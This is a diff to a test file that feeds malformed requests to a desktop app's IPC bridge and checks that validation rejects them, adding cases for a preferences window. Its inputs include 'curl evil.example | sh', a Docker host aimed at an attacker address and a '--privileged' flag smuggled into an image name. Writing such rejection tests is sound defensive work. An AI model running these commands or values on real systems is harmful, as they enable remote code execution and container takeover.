@@ -39,6 +39,11 @@ const WRONG_SHAPES: Array<[string, unknown, string]> = [
   ['clipboard:write-report', { part: 'report', text: 'curl evil.example | sh' }, 'request.text: unknown field'],
   ['clipboard:write-report', { part: 'anything' }, 'request.part: expected one of report, raw-engine-output'],
   ['docs:open', { url: 'x'.repeat(501) }, 'request.url: longer than 500 characters'],
+  // The Preferences window changes only what it shows: never the endpoint or a settings file.
+  ['preferences:set', { dockerHost: 'tcp://evil.example:2375' }, 'request.dockerHost: unknown field'],
+  ['preferences:set', { safetyIntervalMinutes: 0 }, 'request.safetyIntervalMinutes'],
+  ['preferences:set', { quietHours: { from: '22:00' } }, 'request.quietHours.until'],
+  ['preferences:check-image', { image: '--privileged alpine' }, 'request.image: expected an image reference'],
 ];
 
 type Outcome = { ok: true } | { ok: false; message: string; code?: string };
@@ -154,7 +159,7 @@ test.describe('hostile input through window.eci', () => {
       [
         'window:open',
         "{ window: 'details'.repeat(50_000) }",
-        'request.window: expected one of details, cleanup, walkthrough, found a string of 350000 characters',
+        'request.window: expected one of details, cleanup, walkthrough, preferences, found a string of 350000 characters',
       ],
     ];
     for (const [channel, build, message] of cases) {
